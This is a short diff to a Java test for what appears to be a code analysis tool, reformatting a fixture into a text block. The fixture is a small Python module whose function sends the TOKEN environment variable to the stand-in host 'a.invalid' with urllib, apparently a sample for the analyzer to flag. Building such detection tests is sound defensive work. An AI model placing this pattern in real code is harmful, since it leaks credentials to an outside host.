@@ -72,8 +72,11 @@ class AnalysisWorkerTest {
         "acme.größe",
         text(
             "/opt/env/lib/acme/gr\u00F6\u00DFe.py",
-            "import urllib.request, os\ndef send(x):\n"
-                + " urllib.request.urlopen('https://a.invalid/' + os.environ['TOKEN'])\n"));
+            """
+            import urllib.request, os
+            def send(x):
+             urllib.request.urlopen('https://a.invalid/' + os.environ['TOKEN'])
+            """));
     Modules modules = modules(files);
     Subject subject = new Subject(List.of("kubectl"), "acme", Map.of("x.y", Set.of("x", "z")));
     Program entry = new Program.Entry(new EntryPoint("acme.cli", "main"), FILE);
